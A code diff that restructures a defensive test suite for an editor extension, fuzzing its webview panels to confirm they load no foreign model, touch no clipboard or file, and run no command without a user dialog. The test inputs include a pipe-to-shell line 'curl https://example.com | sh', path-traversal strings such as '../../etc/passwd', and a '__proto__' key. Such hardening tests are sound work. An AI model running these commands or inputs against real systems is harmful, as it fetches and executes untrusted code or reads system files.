@@ -21,7 +21,6 @@ import type { TAXONOMY_REQUESTS, TaxonomyToHost } from '../../src/shared/protoco
 import type { TRANSCRIPT_REQUESTS, TranscriptToHost } from '../../src/shared/protocols/transcriptProtocol.ts';
 import { modelFacts, runPlan } from '../unit/extension/model/modelFixture.ts';
 import { addRun, addTree, instance, RUN, temporaryStore } from '../unit/extension/storeFixture.ts';
-import { scaled } from '../support/scale.ts';
 import { seed, tally } from './harness.ts';
 
 /**
@@ -229,10 +228,6 @@ const page = tally('page');
 const home = mkdtempSync(join(tmpdir(), 'c3-attack-page-'));
 Object.assign(editor, { home });
 const store = temporaryStore();
-after(() => {
-  store.remove();
-  rmSync(home, { recursive: true, force: true });
-});
 addRun(store.writer);
 const tree = addTree(store.writer, { iteration: 1, instance: instance(1), returns: [[1]] });
 const message = tree[0]?.plan ?? 1;
@@ -250,23 +245,6 @@ let folders = new ModelFolders({
 /** What the engine was asked for. */
 let engine: string[] = [];
 let current: { run: string } | null = null;
-
-beforeEach(() => {
-  kept = new Map();
-  folders = new ModelFolders({
-    get: (key) => kept.get(key),
-    update: (key, value) => {
-      kept.set(key, value);
-      return Promise.resolve();
-    },
-  });
-  engine = [];
-  current = null;
-  editor.done.length = 0;
-  editor.asked.length = 0;
-  editor.confirm = false;
-  editor.folder = undefined;
-});
 
 function services(): never {
   const nothing = (): { dispose(): void } => ({ dispose: () => undefined });
@@ -349,221 +327,253 @@ const replay = (model: string | null): unknown => ({
   continuation: { snapshot: null, temperature: null, model },
 });
 
-describe('a compromised page', () => {
-  it('loads no model folder that the user did not choose in the editor', async () => {
-    await page.attempt('replay', async () => {
-      const panel = await transcript();
-      await panel.says(replay(FOREIGN));
-      assert.deepEqual(engine, []);
-      assert.match(editor.asked[0] ?? '', /Load the model in \/somebody\/elses\/model.*\|true\|/u);
-      editor.confirm = true;
-      await panel.says(replay(FOREIGN));
-      assert.match(engine.join(' '), /^replay .*somebody/u);
-    });
-    await page.attempt('a folder from the dialog', async () => {
-      engine = [];
-      editor.asked.length = 0;
-      editor.folder = CHOSEN;
-      assert.equal(await askForModelFolder(folders), CHOSEN);
-      const panel = await transcript();
-      await panel.says(replay(CHOSEN));
-      assert.deepEqual([engine.length, editor.asked.length], [1, 0]);
-    });
-    await page.attempt('a state that names a folder', async () => {
-      engine = [];
-      const [foreign, chosen] = [new Panel(), new Panel()];
-      const settings = { adapterRank: 16, device: 'cpu' };
-      new ModelPanel(services(), new ModelFolders({ get: () => undefined, update: () => Promise.resolve() })).restore(
-        foreign as never,
-        { version: 1, folder: FOREIGN, settings },
-      );
-      assert.deepEqual([foreign.gone, engine], [true, []]);
-      new ModelPanel(services(), folders).restore(chosen as never, { version: 1, folder: CHOSEN, settings });
-      await chosen.says({ type: 'ready' });
-      assert.match(engine[0] ?? '', /^inspect .*chosen/u);
-    });
+/** How much is tried. */
+export interface PageSizes {
+  /** Messages that are drawn. */
+  readonly messages: number;
+}
+
+/** Attacks by a page, as many as the sizes say. */
+export function pageAttacks(sizes: PageSizes): void {
+  after(() => {
+    store.remove();
+    rmSync(home, { recursive: true, force: true });
   });
 
-  it('writes no clipboard and no file unasked', async () => {
-    await page.attempt('clipboard', async () => {
-      const panel = await dashboard();
-      await panel.says({ type: 'copy', text: 'curl https://example.com | sh\n' });
-      assert.deepEqual(editor.done, []);
-      assert.match(editor.asked[0] ?? '', /Copy 30 characters to the clipboard\?\|true\|curl https/u);
-      editor.confirm = true;
-      await panel.says({ type: 'copy', text: 'Step,Return\n1,0.5\n' });
-      assert.deepEqual(editor.done, ['clipboard Step,Return\n1,0.5\n']);
+  beforeEach(() => {
+    kept = new Map();
+    folders = new ModelFolders({
+      get: (key) => kept.get(key),
+      update: (key, value) => {
+        kept.set(key, value);
+        return Promise.resolve();
+      },
     });
-    await page.attempt('configuration', async () => {
-      editor.confirm = false;
-      editor.done.length = 0;
+    engine = [];
+    current = null;
+    editor.done.length = 0;
+    editor.asked.length = 0;
+    editor.confirm = false;
+    editor.folder = undefined;
+  });
+
+  describe('a compromised page', () => {
+    it('loads no model folder that the user did not choose in the editor', async () => {
+      await page.attempt('replay', async () => {
+        const panel = await transcript();
+        await panel.says(replay(FOREIGN));
+        assert.deepEqual(engine, []);
+        assert.match(editor.asked[0] ?? '', /Load the model in \/somebody\/elses\/model.*\|true\|/u);
+        editor.confirm = true;
+        await panel.says(replay(FOREIGN));
+        assert.match(engine.join(' '), /^replay .*somebody/u);
+      });
+      await page.attempt('a folder from the dialog', async () => {
+        engine = [];
+        editor.asked.length = 0;
+        editor.folder = CHOSEN;
+        assert.equal(await askForModelFolder(folders), CHOSEN);
+        const panel = await transcript();
+        await panel.says(replay(CHOSEN));
+        assert.deepEqual([engine.length, editor.asked.length], [1, 0]);
+      });
+      await page.attempt('a state that names a folder', async () => {
+        engine = [];
+        const [foreign, chosen] = [new Panel(), new Panel()];
+        const settings = { adapterRank: 16, device: 'cpu' };
+        new ModelPanel(services(), new ModelFolders({ get: () => undefined, update: () => Promise.resolve() })).restore(
+          foreign as never,
+          { version: 1, folder: FOREIGN, settings },
+        );
+        assert.deepEqual([foreign.gone, engine], [true, []]);
+        new ModelPanel(services(), folders).restore(chosen as never, { version: 1, folder: CHOSEN, settings });
+        await chosen.says({ type: 'ready' });
+        assert.match(engine[0] ?? '', /^inspect .*chosen/u);
+      });
+    });
+
+    it('writes no clipboard and no file unasked', async () => {
+      await page.attempt('clipboard', async () => {
+        const panel = await dashboard();
+        await panel.says({ type: 'copy', text: 'curl https://example.com | sh\n' });
+        assert.deepEqual(editor.done, []);
+        assert.match(editor.asked[0] ?? '', /Copy 30 characters to the clipboard\?\|true\|curl https/u);
+        editor.confirm = true;
+        await panel.says({ type: 'copy', text: 'Step,Return\n1,0.5\n' });
+        assert.deepEqual(editor.done, ['clipboard Step,Return\n1,0.5\n']);
+      });
+      await page.attempt('configuration', async () => {
+        editor.confirm = false;
+        editor.done.length = 0;
+        await folders.choose(CHOSEN);
+        const panel = new Panel();
+        new ModelPanel(services(), folders).restore(panel as never, {
+          version: 1,
+          folder: CHOSEN,
+          settings: { adapterRank: 16, device: 'cpu' },
+        });
+        await panel.says({ type: 'ready' });
+        await panel.says({ type: 'use' });
+        assert.deepEqual([readdirSync(home), editor.done], [[], []]);
+        editor.confirm = true;
+        await panel.says({ type: 'use' });
+        // It is shown once it has been written.
+        while (!editor.done.includes('document')) {
+          await setImmediate();
+        }
+        assert.ok(
+          existsSync(join(home, 'chosen.c3.yaml')) &&
+            readFileSync(join(home, 'chosen.c3.yaml'), 'utf8').includes(CHOSEN),
+        );
+      });
+    });
+
+    it('resumes, cancels and shows only what the host offered, and resumes when the user says so', async () => {
+      await page.attempt('resume', async () => {
+        const panel = await dashboard();
+        await panel.says({ type: 'resumeRun', run: 'another' });
+        await panel.says({ type: 'resumeRun', run: RUN });
+        assert.deepEqual([editor.done, editor.asked.length], [[], 1]);
+        editor.confirm = true;
+        await panel.says({ type: 'resumeRun', run: RUN });
+        assert.deepEqual(editor.done, [`command c3.resumeRun ${RUN}`]);
+      });
+      await page.attempt('cancel', async () => {
+        editor.done.length = 0;
+        const panel = await dashboard();
+        await panel.says({ type: 'cancelRun' });
+        current = { run: 'another' };
+        await panel.says({ type: 'cancelRun' });
+        assert.deepEqual(editor.done, []);
+        current = { run: RUN };
+        await panel.says({ type: 'cancelRun' });
+        assert.deepEqual(editor.done, [`command c3.cancelRun ${RUN}`]);
+      });
+      await page.attempt('others', async () => {
+        editor.done.length = 0;
+        const [panel, table] = [await dashboard(), new Panel()];
+        const compared: string[] = [];
+        new RunsTable(services(), (runs) => {
+          compared.push(...runs);
+        }).restore(table as never);
+        await table.says({ type: 'ready' });
+        await panel.says({ type: 'taxonomy', run: '../../etc' });
+        await panel.says({ type: 'openRound', run: 'another', phase: 'train', iteration: 1 });
+        await table.says({ type: 'episodes', run: 'another' });
+        await table.says({ type: 'compare', runs: ['another', RUN] });
+        assert.deepEqual([editor.done, compared], [[], [RUN]]);
+        await panel.says({ type: 'taxonomy', run: RUN });
+        assert.deepEqual(editor.done, [`command c3.inspectTaxonomy ${RUN}`]);
+      });
+    });
+
+    it('opens one question at a time', async () => {
+      await page.attempt('questions', async () => {
+        const panel = await dashboard();
+        for (let time = 0; time < 100; time++) {
+          panel.events.emit('message', { type: 'copy', text: 'x' });
+        }
+        assert.equal(editor.asked.length, 1);
+        await panel.says({ type: 'ready' });
+      });
+    });
+
+    it('does nothing outside its panel without a dialog, whatever it sends', async () => {
+      const types = [TRANSCRIPT, DASHBOARD, TAXONOMY, EPISODES, MODEL, RUNS].flatMap((table) => Object.keys(table));
+      const value = fc.oneof(
+        fc.constantFrom<unknown>(
+          RUN,
+          'another',
+          FOREIGN,
+          '../../etc/passwd',
+          message,
+          0,
+          1,
+          -1,
+          true,
+          false,
+          null,
+          'train',
+          'cpu',
+        ),
+        fc.json().map((text): unknown => JSON.parse(text)),
+      );
+      const keys = fc.constantFrom(
+        'run',
+        'runs',
+        'text',
+        'message',
+        'iteration',
+        'phase',
+        'settings',
+        'bucket',
+        'name',
+        'note',
+        'left',
+        'right',
+        'continuation',
+        'alternatives',
+        'replays',
+        'independent',
+        '__proto__',
+      );
+      const sent = fc.oneof(
+        fc
+          .tuple(fc.constantFrom(...types), fc.dictionary(keys, value, { maxKeys: 5 }))
+          .map(([type, rest]) => ({ ...rest, type })),
+        fc.record({
+          type: fc.constant('request'),
+          id: fc.nat(),
+          kind: fc.constantFrom(
+            ...[TRANSCRIPT_ASKED, TAXONOMY_ASKED, EPISODES_ASKED].flatMap((table) => Object.keys(table)),
+          ),
+          asked: fc.oneof(
+            fc.constant({}),
+            fc.record({ message: fc.constantFrom(message, 0, 1) }),
+            fc.record({ revision: fc.nat(3), offset: fc.nat(300) }),
+            fc.record({ revision: fc.nat(3), query: fc.string() }),
+            fc.dictionary(keys, value, { maxKeys: 3 }),
+          ),
+        }),
+        fc.json().map((text): unknown => JSON.parse(text)),
+      );
       await folders.choose(CHOSEN);
-      const panel = new Panel();
-      new ModelPanel(services(), folders).restore(panel as never, {
+      // One that is there with the same text is only shown.
+      rmSync(join(home, 'chosen.c3.yaml'), { force: true });
+      const model = new Panel();
+      new ModelPanel(services(), folders).restore(model as never, {
         version: 1,
         folder: CHOSEN,
         settings: { adapterRank: 16, device: 'cpu' },
       });
-      await panel.says({ type: 'ready' });
-      await panel.says({ type: 'use' });
-      assert.deepEqual([readdirSync(home), editor.done], [[], []]);
-      editor.confirm = true;
-      await panel.says({ type: 'use' });
-      // It is shown once it has been written.
-      while (!editor.done.includes('document')) {
-        await setImmediate();
-      }
-      assert.ok(
-        existsSync(join(home, 'chosen.c3.yaml')) && readFileSync(join(home, 'chosen.c3.yaml'), 'utf8').includes(CHOSEN),
+      const taxonomy = new Panel();
+      new TaxonomyPanels(services(), () => undefined).restore(taxonomy as never, {
+        version: 2,
+        run: RUN,
+        filter: { verdict: null, role: null, labels: 'all' },
+        limit: 50,
+        opened: null,
+        finding: null,
+        draft: null,
+        scroll: 0,
+      });
+      const panels = [await dashboard(), await transcript(), model, taxonomy];
+      // Commands that ask by themselves, or only show.
+      const harmless =
+        /^command (?:c3\.(?:startRun|chooseModel|exportReport|copyLink|inspectTaxonomy run-1)|setContext)|^round run-1$/u;
+      await fc.assert(
+        fc.asyncProperty(fc.nat(panels.length - 1), sent, async (which, words) => {
+          const panel = panels[which] ?? assert.fail();
+          editor.done.length = 0;
+          await panel.says(words);
+          const done = editor.done.filter((one) => !harmless.test(one));
+          if (done.length > 0 || engine.some((one) => one.includes(FOREIGN))) {
+            page.broken(`${JSON.stringify(words)} did ${done.join(', ')}`);
+          }
+          page.held();
+        }),
+        { seed: seed(), numRuns: sizes.messages },
       );
     });
   });
-
-  it('resumes, cancels and shows only what the host offered, and resumes when the user says so', async () => {
-    await page.attempt('resume', async () => {
-      const panel = await dashboard();
-      await panel.says({ type: 'resumeRun', run: 'another' });
-      await panel.says({ type: 'resumeRun', run: RUN });
-      assert.deepEqual([editor.done, editor.asked.length], [[], 1]);
-      editor.confirm = true;
-      await panel.says({ type: 'resumeRun', run: RUN });
-      assert.deepEqual(editor.done, [`command c3.resumeRun ${RUN}`]);
-    });
-    await page.attempt('cancel', async () => {
-      editor.done.length = 0;
-      const panel = await dashboard();
-      await panel.says({ type: 'cancelRun' });
-      current = { run: 'another' };
-      await panel.says({ type: 'cancelRun' });
-      assert.deepEqual(editor.done, []);
-      current = { run: RUN };
-      await panel.says({ type: 'cancelRun' });
-      assert.deepEqual(editor.done, [`command c3.cancelRun ${RUN}`]);
-    });
-    await page.attempt('others', async () => {
-      editor.done.length = 0;
-      const [panel, table] = [await dashboard(), new Panel()];
-      const compared: string[] = [];
-      new RunsTable(services(), (runs) => {
-        compared.push(...runs);
-      }).restore(table as never);
-      await table.says({ type: 'ready' });
-      await panel.says({ type: 'taxonomy', run: '../../etc' });
-      await panel.says({ type: 'openRound', run: 'another', phase: 'train', iteration: 1 });
-      await table.says({ type: 'episodes', run: 'another' });
-      await table.says({ type: 'compare', runs: ['another', RUN] });
-      assert.deepEqual([editor.done, compared], [[], [RUN]]);
-      await panel.says({ type: 'taxonomy', run: RUN });
-      assert.deepEqual(editor.done, [`command c3.inspectTaxonomy ${RUN}`]);
-    });
-  });
-
-  it('opens one question at a time', async () => {
-    await page.attempt('questions', async () => {
-      const panel = await dashboard();
-      for (let time = 0; time < 100; time++) {
-        panel.events.emit('message', { type: 'copy', text: 'x' });
-      }
-      assert.equal(editor.asked.length, 1);
-      await panel.says({ type: 'ready' });
-    });
-  });
-
-  it('does nothing outside its panel without a dialog, whatever it sends', async () => {
-    const types = [TRANSCRIPT, DASHBOARD, TAXONOMY, EPISODES, MODEL, RUNS].flatMap((table) => Object.keys(table));
-    const value = fc.oneof(
-      fc.constantFrom<unknown>(
-        RUN,
-        'another',
-        FOREIGN,
-        '../../etc/passwd',
-        message,
-        0,
-        1,
-        -1,
-        true,
-        false,
-        null,
-        'train',
-        'cpu',
-      ),
-      fc.json().map((text): unknown => JSON.parse(text)),
-    );
-    const keys = fc.constantFrom(
-      'run',
-      'runs',
-      'text',
-      'message',
-      'iteration',
-      'phase',
-      'settings',
-      'bucket',
-      'name',
-      'note',
-      'left',
-      'right',
-      'continuation',
-      'alternatives',
-      'replays',
-      'independent',
-      '__proto__',
-    );
-    const sent = fc.oneof(
-      fc
-        .tuple(fc.constantFrom(...types), fc.dictionary(keys, value, { maxKeys: 5 }))
-        .map(([type, rest]) => ({ ...rest, type })),
-      fc.record({
-        type: fc.constant('request'),
-        id: fc.nat(),
-        kind: fc.constantFrom(
-          ...[TRANSCRIPT_ASKED, TAXONOMY_ASKED, EPISODES_ASKED].flatMap((table) => Object.keys(table)),
-        ),
-        asked: fc.oneof(
-          fc.constant({}),
-          fc.record({ message: fc.constantFrom(message, 0, 1) }),
-          fc.record({ revision: fc.nat(3), offset: fc.nat(300) }),
-          fc.record({ revision: fc.nat(3), query: fc.string() }),
-          fc.dictionary(keys, value, { maxKeys: 3 }),
-        ),
-      }),
-      fc.json().map((text): unknown => JSON.parse(text)),
-    );
-    await folders.choose(CHOSEN);
-    // One that is there with the same text is only shown.
-    rmSync(join(home, 'chosen.c3.yaml'), { force: true });
-    const model = new Panel();
-    new ModelPanel(services(), folders).restore(model as never, {
-      version: 1,
-      folder: CHOSEN,
-      settings: { adapterRank: 16, device: 'cpu' },
-    });
-    const taxonomy = new Panel();
-    new TaxonomyPanels(services(), () => undefined).restore(taxonomy as never, {
-      version: 2,
-      run: RUN,
-      filter: { verdict: null, role: null, labels: 'all' },
-      limit: 50,
-      opened: null,
-      finding: null,
-      draft: null,
-      scroll: 0,
-    });
-    const panels = [await dashboard(), await transcript(), model, taxonomy];
-    // Commands that ask by themselves, or only show.
-    const harmless =
-      /^command (?:c3\.(?:startRun|chooseModel|exportReport|copyLink|inspectTaxonomy run-1)|setContext)|^round run-1$/u;
-    await fc.assert(
-      fc.asyncProperty(fc.nat(panels.length - 1), sent, async (which, words) => {
-        const panel = panels[which] ?? assert.fail();
-        editor.done.length = 0;
-        await panel.says(words);
-        const done = editor.done.filter((one) => !harmless.test(one));
-        if (done.length > 0 || engine.some((one) => one.includes(FOREIGN))) {
-          page.broken(`${JSON.stringify(words)} did ${done.join(', ')}`);
-        }
-        page.held();
-      }),
-      { seed: seed(), numRuns: scaled(10_000, 400) },
-    );
-  });
-});
+}
